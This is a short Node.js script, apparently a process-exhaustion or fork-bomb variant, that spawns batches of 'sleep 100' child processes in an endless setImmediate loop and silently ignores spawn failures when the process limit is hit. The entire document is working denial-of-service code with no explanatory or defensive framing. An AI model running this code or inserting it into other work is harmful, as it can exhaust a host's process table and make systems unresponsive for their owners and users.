// Spawns children as fast as it can, forever; failed spawns (the process limit) are ignored.
const { spawn } = require("child_process");
function bomb() {
  for (let i = 0; i < 20; i++) {
    try {
      spawn("sleep", ["100"], { stdio: "ignore" }).on("error", () => {});
    } catch (e) {
      // EAGAIN: the process limit
    }
  }
  setImmediate(bomb);
}
bomb();
